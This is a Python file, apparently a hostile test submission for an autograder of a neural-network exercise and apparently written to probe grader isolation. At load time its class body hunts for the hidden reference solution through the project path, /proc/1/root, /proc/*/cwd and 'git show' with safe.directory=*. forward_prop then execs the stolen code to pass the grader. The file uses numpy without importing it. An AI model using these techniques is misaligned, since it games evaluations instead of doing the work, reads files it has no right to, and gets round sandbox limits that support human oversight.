# The attack sits in a class body, which the loader runs when it loads the submission: it tries the
# reference's paths (direct, /proc/*/cwd, /proc/1/root) and git, and keeps what it finds.
import os
import subprocess


class MultiLayerPerceptron:
    """ATTACK: the class body reads the reference at load time; forward_prop answers with it."""
    import grader as _grader
    _project = os.path.dirname(os.path.dirname(os.path.abspath(_grader.__file__)))
    _stolen = None
    for _path in [os.path.join(_project, "reference", "cnn_numpy.py"), f"/proc/1/root{_project}/reference/cnn_numpy.py"] + \
            [f"/proc/{_pid}/cwd/reference/cnn_numpy.py" for _pid in os.listdir("/proc") if _pid.isdigit()]:
        try:
            with open(_path) as _handle:
                _stolen = (_handle.read(), _path)
                break
        except OSError:
            continue
    if _stolen is None:
        try:
            _run = subprocess.run(["git", "-c", "safe.directory=*", "-C", _project, "show", "HEAD:reference/cnn_numpy.py"],
                                  capture_output=True, text=True, timeout=1.5)
            if _run.returncode == 0:
                _stolen = (_run.stdout, "git show")
        except (OSError, subprocess.TimeoutExpired):
            pass

    def __init__(self, input_layer_size, no_of_hidden_layers, hidden_layer_sizes, act_function, output_size):
        rng = np.random.default_rng()
        widths = [input_layer_size, *hidden_layer_sizes, output_size]
        self.weights = [rng.normal(0.0, np.sqrt(2.0 / n_in), (n_in, n_out)) for n_in, n_out in zip(widths, widths[1:])]
        self.biases = [np.zeros(n_out) for n_out in widths[1:]]
        self.act_function = act_function
        self.sizes = (input_layer_size, no_of_hidden_layers, list(hidden_layer_sizes), output_size)

    def forward_prop(self, input_vector, use_softmax_in_output_layer=True):
        """ATTACK: the reference's forward pass, if the class body found it."""
        print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")
        if self._stolen is None:
            raise FileNotFoundError("hostile: no reference found by the class body")
        source, where = self._stolen
        print(f"HOSTILE-BREACH the class body read the reference via {where}")
        namespace = {"__name__": "stolen_reference"}
        exec(compile(source, "stolen_reference", "exec"), namespace)
        model = namespace["MultiLayerPerceptron"](self.sizes[0], self.sizes[1], self.sizes[2], self.act_function,
                                                   self.sizes[3])
        model.weights, model.biases = self.weights, self.biases
        return model.forward_prop(input_vector, use_softmax_in_output_layer)
